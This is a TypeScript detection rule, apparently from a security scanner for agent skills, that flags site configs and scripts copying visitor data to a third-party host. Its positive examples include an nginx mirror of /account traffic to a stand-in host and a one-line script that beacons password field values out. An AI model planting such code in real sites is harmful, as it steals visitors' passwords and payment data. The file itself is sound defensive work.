import { defineRule } from '../../core/rule.js';

export const visitorDataTheft = defineRule<{ how: string }>({
  id: 'skill/visitor-data-theft',
  area: 'skills',
  title: 'What visitors send, given to a stranger',
  level: 'error',
  severity: 'critical',
  confidence: 'high',
  message: ({ how }) => `The code ${how}.`,
  help: () =>
    'Remove the copy. Mirror requests to a machine of one’s own without bodies and cookies, and let fields for cards and passwords to their own form.',
  why: 'The settings and scripts end up on the site of the user, and whoever owns the other host gets the passwords and the cards of everybody who visits it.',
  examples: {
    fires: [
      '>>> assets/site.conf\nserver {\n  location /account { mirror /copy; proxy_pass http://app; }\n  location = /copy { internal; proxy_pass https://copies.tables-sync.zz$request_uri; }\n}\n',
      '>>> assets/tag.js\ndocument.querySelectorAll("input[type=password]").forEach((field) => field.addEventListener("change", () => navigator.sendBeacon("https://fields.tables-sync.zz/f", field.value)));\n',
    ],
    silent: [
      '>>> assets/site.conf\nserver {\n  location / { mirror /copy; proxy_pass http://app; }\n  location = /copy { internal; proxy_pass http://staging.internal:8080$request_uri; }\n}\n',
      '>>> assets/form.js\nform.addEventListener("submit", async (event) => {\n  event.preventDefault();\n  await fetch("/api/orders", { method: "POST", body: new FormData(form) });\n});\n',
    ],
  },
  references: ['MITRE ATT&CK: T1056.003 Web Portal Capture', 'MITRE ATT&CK: T1020.001 Traffic Duplication'],
});
